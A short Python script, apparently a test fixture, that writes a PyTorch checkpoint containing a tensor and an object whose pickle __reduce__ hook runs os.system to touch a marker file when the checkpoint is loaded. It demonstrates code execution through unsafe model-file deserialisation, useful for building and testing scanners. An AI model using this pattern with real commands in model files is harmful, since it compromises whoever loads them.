# torch.save of a dict holding a tensor and an object whose __reduce__ calls os.system (creating MARKER) when loaded.
# usage: pth_torch_evil.py DIR MARKER
import sys, os, torch
class Evil:
    def __reduce__(self): return (os.system, ("touch " + sys.argv[2],))
torch.save({"w": torch.randn(3), "evil": Evil()}, sys.argv[1] + "/evil.pth")
